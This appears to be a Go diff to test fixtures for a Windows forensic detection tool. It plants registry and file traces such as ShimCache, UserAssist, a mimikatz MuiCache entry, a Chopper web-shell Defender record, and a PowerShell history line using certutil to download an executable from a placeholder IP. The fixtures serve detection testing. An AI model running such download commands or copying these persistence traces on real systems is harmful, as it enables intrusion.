@@ -116,7 +116,23 @@ var plantedWindows = []mark{
 	{"start.program-in-temporary-folder", "logon.bat", anna("Environment", "UserInitMprLogonScript", `C:\Users\Public\logon.bat`)},
 	{"start.program-in-temporary-folder", "saver.scr", anna(`Control Panel\Desktop`, "SCRNSAVE.EXE", `C:\Users\Public\saver.scr`)},
 	{"start.winlogon-changed", "anna", anna(`Software\`+ntKey+"Winlogon", "Shell", `explorer.exe, C:\Users\anna\AppData\Roaming\Net\s.exe`)},
+	{"trace.ran-in-temporary-folder", "bam1.exe", system(`Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001`, `\Device\HarddiskVolume3\Users\Public\bam1.exe`, make([]byte, 24))},
+	{"trace.system-name-elsewhere", "svchost.exe", system(`Control\Session Manager\AppCompatCache`, "AppCompatCache", shimmed(`C:\ProgramData\svchost.exe`))},
+	{"trace.ran-in-temporary-folder", "assist.exe", anna(`Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count`, `P:\Hfref\Choyvp\nffvfg.rkr`, make([]byte, 72))},
+	{"tool.attack", "mimikatz.exe", []entry{{"classes", `Local Settings\Software\Microsoft\Windows\Shell\MuiCache`, `C:\Users\anna\Downloads\mimikatz.exe.FriendlyAppName`, "mimikatz"}}},
 	{"start.class-of-user", "c.dll", []entry{{"classes", `CLSID\{C}\InprocServer32`, "", `C:\Users\anna\AppData\Local\Temp\c.dll`}}},
+}
+
+// shimmed is the value of a ShimCache of Windows 10 with one program.
+func shimmed(path string) []byte {
+	w := utf16Bytes(path)
+	body := slices.Concat(binary.LittleEndian.AppendUint16(nil, uint16(len(w))), w, make([]byte, 12))
+	return slices.Concat([]byte{0x34}, make([]byte, 0x33), []byte("10ts"), make([]byte, 4), binary.LittleEndian.AppendUint32(nil, uint32(len(body))), body)
+}
+
+// recycledIndex is an index of the recycle bin for a file.
+func recycledIndex(path string) string {
+	return "\x02" + strings.Repeat("\x00", 23) + string(append(binary.LittleEndian.AppendUint32(nil, uint32(len(path))), utf16Bytes(path)...))
 }
 
 // plantedFiles are files of the same host.
@@ -124,6 +140,9 @@ var plantedFiles = []struct{ path, text, rule, says string }{
 	{"Windows/System32/Tasks/GoogleUpdateTaskMachineQC", taskFile(`C:\Users\Public\t.exe`, ""), "start.program-in-temporary-folder", "t.exe"},
 	{"Windows/System32/wbem/Repository/OBJECTS.DATA", "CommandLineEventConsumer\x00\x00" + encoded + "\x00\x00\x00SysCheck\x00 \x00CommandLineEventConsumer.Name=\"SysCheck\"\x00__EventFilter.Name=\"SysCheck\"\x00", "start.wmi-consumer", "SysCheck"},
 	{"Windows/System32/inetsrv/config/applicationHost.config", `<configuration><system.webServer><globalModules><add name="HttpFast" image="C:\inetpub\temp\m.dll" /></globalModules></system.webServer></configuration>`, "start.web-server-module", "m.dll"},
+	{"Users/anna/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "whoami\r\ncertutil -urlcache -f http://192.0.2.9/a.exe a.exe\r\n", "trace.suspicious-command", "certutil"},
+	{"$Recycle.Bin/S-1-5-21-1-2-3-1001/$IAAAAAA.aspx", recycledIndex(`C:\inetpub\wwwroot\gone.aspx`), "trace.ran-in-temporary-folder", "gone.aspx"},
+	{"ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/A", string(utf16Bytes("Backdoor:ASP/Chopper.A!dha")) + "\x00\x00\x00\x00" + string(utf16Bytes(`C:\inetpub\wwwroot\m.aspx`)) + "\x00\x00", "trace.defender-found", "Chopper"},
 	{"Windows/System32/drivers/etc/hosts", "127.0.0.1 wdcp.microsoft.com\r\n", "setting.guard-redirected", "wdcp"},
 }
 
@@ -134,6 +153,9 @@ func taskFile(command, arguments string) string {
 // lawfulWindows are what Windows, makers of programs and administrators leave that
 // looks like it.
 var lawfulWindows = [][]entry{
+	system(`Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001`, `\Device\HarddiskVolume3\Windows\System32\svchost.exe`, make([]byte, 24)),
+	system(`Control\Session Manager\AppCompatCache`, "AppCompatCache", shimmed(`C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`)),
+	anna(`Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{F4E57C4B-2036-45F0-A9AB-443BCFE33D9F}\Count`, `P:\Hfref\Choyvp\Qrfxgbc\Zbmvyyn Sversbk.yax`, make([]byte, 72)),
 	service("MailService", `"C:\Program Files (x86)\SmarterTools\SmarterMail\Service\MailService.exe"`),
 	service("MSSQLSERVER", `"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`),
 	service("WinDefend", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe"`),
